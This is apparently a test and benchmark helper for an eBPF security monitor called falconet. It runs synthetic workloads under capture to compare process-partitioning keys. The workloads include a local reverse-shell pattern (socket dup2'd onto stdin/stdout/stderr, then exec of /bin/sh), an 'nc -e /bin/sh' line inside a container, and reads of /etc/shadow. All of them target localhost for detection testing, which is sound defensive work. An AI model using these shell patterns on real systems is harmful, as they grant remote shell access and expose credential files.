"""Real captures of the workloads where the partition key matters (issue 18, item 3), for
tests/workers/test_partition_keys.py and bench/bench_partition.py.

``falconet record`` runs on the real kernel while four workloads run, each tagged so its
process tree can be cut out of the machine-wide capture afterwards:

- ``pipeline``: ``sh`` pipelines (a pipe made by the shell, inherited across fork, then written
  by one child and read by the next), one of them reading a sensitive file;
- ``prefork``: a server that opens a listening socket and forks workers that all ``accept`` on
  it (the listening fd inherited), with a client making connections;
- ``container``: a multi-process busybox container (docker): shells, pipelines, subshells,
  a sensitive read, from the shim through ``runc init`` (which moves into the container's
  cgroup after runc forked it) to the container's processes;
- ``revshell``: a process that connects to a local listener, forks, and the child ``dup2``s the
  socket onto stdin/stdout/stderr and execs a shell (also inside the container: ``nc -e``).

:func:`record` writes the machine-wide capture; :func:`cut` keeps the header, every state
record and the events of one workload's process trees (its tagged root and every descendant,
by the fork records), so other users of the machine do not make the comparison noisy.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import signal
import subprocess
import sys
import threading
import time
from pathlib import Path

from falconet.workers.partition import cgroup_hash
from workers_helpers import Listener

EXE = str(Path(sys.executable).parent / "falconet")
WORKLOADS = ("pipeline", "prefork", "container", "revshell")

PIPELINE = r"""
i=0
while [ $i -lt {n} ]; do
  cat /etc/services | grep tcp | sort | uniq -c > /dev/null
  (cd /etc && cat hostname) | tr a-z A-Z > /dev/null
  i=$((i + 1))
done
cat /etc/shadow | head -c 1 > /dev/null
"""

PREFORK = r"""
import os, socket, sys
n, tag = int(sys.argv[1]), sys.argv[2]
srv = socket.socket()
srv.bind(("127.0.0.1", 0))
srv.listen(64)
port = srv.getsockname()[1]
kids = []
for _ in range(4):
    pid = os.fork()
    if pid == 0:
        while True:
            c, _ = srv.accept()
            data = c.recv(64)
            if data == b"quit":
                c.close()
                os._exit(0)
            c.sendall(data)
            c.close()
    kids.append(pid)
for i in range(n):
    c = socket.create_connection(("127.0.0.1", port))
    c.sendall(b"ping")
    c.recv(64)
    c.close()
for _ in kids:
    c = socket.create_connection(("127.0.0.1", port))
    c.sendall(b"quit")
    c.close()
for pid in kids:
    os.waitpid(pid, 0)
"""

REVSHELL = r"""
import os, socket, sys
port, n, tag = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
for _ in range(n):
    s = socket.create_connection(("127.0.0.1", port))
    pid = os.fork()
    if pid == 0:
        for fd in (0, 1, 2):
            os.dup2(s.fileno(), fd)
        os.execv("/bin/sh", ["sh", "-c", "cat /etc/hostname; ls / > /dev/null"])
    os.waitpid(pid, 0)
    s.close()
"""

CONTAINER = r"""
i=0
while [ $i -lt {n} ]; do
  cat /etc/passwd | grep root | wc -l > /dev/null
  (cd /tmp && echo x > f$i && cat f$i > /dev/null)
  sh -c 'ls /bin > /dev/null' &
  wait
  i=$((i + 1))
done
cat /etc/shadow > /dev/null
nc 127.0.0.1 {port} -e /bin/sh -c 'cat /etc/hostname' || true
"""


def docker_ok() -> bool:
    if shutil.which("docker") is None or not os.environ.get("TEST_IMAGE"):
        return False
    r = subprocess.run(["docker", "image", "inspect", os.environ["TEST_IMAGE"]],
                       capture_output=True, check=False)
    return r.returncode == 0


def cgroup_id(pid: int | str) -> int:
    """The cgroup v2 id of a process (the inode of its cgroup directory, as
    ``bpf_get_current_cgroup_id()`` returns it)."""
    with open(f"/proc/{pid}/cgroup", encoding="utf-8") as f:
        path = next(x for x in f.read().splitlines() if x.startswith("0::"))[3:]
    return os.stat(_cgroup2_root() + path).st_ino


def _cgroup2_root() -> str:
    """Where the cgroup v2 hierarchy is mounted (``/sys/fs/cgroup``, or ``.../unified`` on a
    hybrid host)."""
    with open("/proc/mounts", encoding="utf-8") as f:
        for line in f:
            parts = line.split()
            if len(parts) > 2 and parts[2] == "cgroup2":
                return parts[1]
    return "/sys/fs/cgroup"


def start_container(tag: str, script: str, workers: int = 2) -> str:
    """``docker run -d`` the container workload, again until its cgroup hashes to another
    worker of ``workers`` than this host's cgroup (else the ``cgroup`` key would put it with
    the host's processes and the comparison would show nothing); returns its id."""
    host = cgroup_hash(cgroup_id("self")) % workers
    for i in range(16):
        cid = subprocess.run(["docker", "run", "-d", "--network", "host", "--name",
                              f"{tag}-container{i}", os.environ["TEST_IMAGE"], "sh", "-c",
                              "sleep 0.5\n" + script],
                             capture_output=True, text=True, check=True).stdout.strip()
        pid = subprocess.run(["docker", "inspect", "-f", "{{.State.Pid}}", cid],
                             capture_output=True, text=True, check=False).stdout.strip()
        try:
            other = cgroup_hash(cgroup_id(pid)) % workers != host
        except (OSError, StopIteration):
            other = False
        if other:
            return cid
        subprocess.run(["docker", "rm", "-f", cid], capture_output=True, check=False)
    raise RuntimeError("no container cgroup hashed to another worker than the host's")


def run_workloads(tag: str, scale: int, port: int, container: bool) -> dict[str, str]:
    """Run every workload to its end; returns workload -> the string that marks its roots'
    exec (the tag, or the container's id)."""
    marks = {}
    sh = subprocess.Popen(["/bin/sh", "-c", PIPELINE.format(n=scale), f"{tag}-pipeline"])
    pre = subprocess.Popen([sys.executable, "-c", PREFORK, str(scale * 10), f"{tag}-prefork"])
    rev = subprocess.Popen([sys.executable, "-c", REVSHELL, str(port), str(max(4, scale // 5)),
                            f"{tag}-revshell"])
    marks.update(pipeline=f"{tag}-pipeline", prefork=f"{tag}-prefork",
                 revshell=f"{tag}-revshell")
    if container:
        cid = start_container(tag, CONTAINER.format(n=max(10, scale // 2), port=port))
        marks["container"] = cid
        subprocess.run(["docker", "wait", cid], capture_output=True, check=False, timeout=300)
        subprocess.run(["docker", "rm", "-f", cid], capture_output=True, check=False)
    for p in (sh, pre, rev):
        if p.wait(timeout=300) != 0:
            raise RuntimeError(f"workload {p.args!r} failed with status {p.returncode}")
    return marks


def record(path: str, *, scale: int = 40, container: bool = True,
           env: dict[str, str] | None = None) -> dict[str, str]:
    """Record the workloads on the real kernel into ``path`` (every event type: pipes, reads
    and writes too, so the fd tables are complete); returns the roots' marks."""
    tag = f"pkey{os.getpid()}x{int(time.time()) % 100000}"
    listener = Listener()
    proc = subprocess.Popen([EXE, "record", path, "--force", "--no-rules", "--no-metrics",
                             "--duration", "600"], stdout=subprocess.DEVNULL,
                            stderr=subprocess.PIPE, text=True, env=env)
    err: list[str] = []
    reader = threading.Thread(target=lambda: err.extend(iter(proc.stderr.readline, "")),
                              daemon=True)
    reader.start()
    try:
        deadline = time.monotonic() + 240
        while not any("watching" in e for e in err):
            if proc.poll() is not None or time.monotonic() > deadline:
                raise RuntimeError("falconet record did not start: " + "".join(err))
            time.sleep(0.05)
        marks = run_workloads(tag, scale, listener.port, container)
        time.sleep(0.5)               # the last records leave the rings
    finally:
        if proc.poll() is None:
            proc.send_signal(signal.SIGINT)
        try:
            proc.wait(timeout=60)
        finally:
            listener.close()
    reader.join(5)
    if proc.returncode != 0:
        raise RuntimeError(f"falconet record failed ({proc.returncode}): " + "".join(err))
    return marks


_FORK_TYPES = (b'"type":"procfork"', b'"type":"clone"', b'"type":"clone3"', b'"type":"fork"',
               b'"type":"vfork"')
#: execs that name a workload's mark without being part of it (the tools that drive it)
_NOT_ROOTS = frozenset({"docker"})


def _trees(path: str, marks: list[bytes]) -> set[int]:
    """The pids of the process trees rooted at the execs that name one of ``marks``. The
    records are taken in timestamp order: a capture is ordered per ring batch only (an exec
    may be written after its process's first fork)."""
    recs: list[tuple[int, int, int]] = []     # (ts, pid, child or -1 for a root exec)
    with open(path, "rb") as f:
        for line in f:
            root = b'"type":"execve' in line and any(m in line for m in marks)
            if not root and not any(t in line for t in _FORK_TYPES):
                continue
            d = json.loads(line)
            if d.get("k") != "evt":
                continue
            a = d.get("args") or {}
            if root:
                if a.get("comm") not in _NOT_ROOTS and d.get("res") == 0:
                    recs.append((d["ts"], d["pid"], -1))
                continue
            child = a.get("child_pid") if d["type"] == "procfork" else d.get("res")
            if isinstance(child, int) and child > 0 and child != d["pid"]:
                recs.append((d["ts"], d["pid"], child))
    mine: set[int] = set()
    for _ts, pid, child in sorted(recs):
        if child < 0:
            mine.add(pid)
        elif pid in mine:
            mine.add(child)
    return mine


def cut(path: str, out: str, marks: list[str]) -> int:
    """Write to ``out`` the header, the state records and the events of the process trees
    rooted at the execs whose line holds one of ``marks``, in timestamp order; returns the
    events kept.

    A recorded capture is in ring-batch order, not timestamp order: the recorder drains one
    CPU's ring after the other, so a child's first records may precede its parent's fork by
    hundreds of milliseconds (measured on these captures: about half the records earlier than
    one before them, up to 0.8 s). One worker and N workers then build different states from
    the same inverted stream (N workers route the child as a root before its fork is seen), so
    the comparison of the keys is run on the causal order, as a live engine sees it (its kernel
    assigns a child at ``sched_process_fork``, before the child runs). A state record keeps its
    place after the events before it."""
    mine = _trees(path, [m.encode() for m in marks])
    rows: list[tuple[int, int, bytes]] = []
    header = b""
    last_ts = 0
    with open(path, "rb") as f:
        for i, line in enumerate(f):
            if i == 0:
                header = line
            elif b'"k":"state"' in line:
                rows.append((last_ts, i, line))
            elif b'"k":"evt"' in line:
                m = _PID.search(line)
                if m is None or int(m.group(1)) not in mine:
                    continue
                t = _TS.search(line)
                ts = int(t.group(1)) if t is not None else last_ts
                last_ts = max(last_ts, ts)
                rows.append((ts, i, line))
    rows.sort()
    with open(out, "wb") as o:
        os.fchmod(o.fileno(), 0o600)
        o.write(header)
        for _ts, _i, line in rows:
            o.write(line)
    return sum(1 for r in rows if b'"k":"evt"' in r[2])


_PID = re.compile(rb'"pid":(\d+)')
_TS = re.compile(rb'"ts":(\d+)')
